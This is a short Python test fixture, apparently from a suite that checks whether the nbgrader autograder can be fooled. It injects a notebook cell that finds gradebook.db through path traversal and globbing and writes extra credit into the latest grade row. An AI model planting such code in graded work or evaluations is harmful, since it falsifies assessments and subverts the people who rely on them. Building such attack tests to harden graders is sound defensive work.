# attack: the gradebook is opened and the grade written into it
# bites: plain nbgrader
from tests.attacks import before


def tamper(notebook):
    before(
        notebook,
        "loss-check",
        """
import glob, os, sqlite3

names = ["../../../gradebook.db", *glob.glob("/*/gradebook.db"), *glob.glob("/*/*/gradebook.db")]
for path in filter(os.path.exists, names):
    with sqlite3.connect(path, timeout=5) as database:
        mine = "(select notebook_id from grade order by rowid desc limit 1)"
        database.execute(f"update grade set extra_credit = 8 where notebook_id = {mine}")
""",
    )
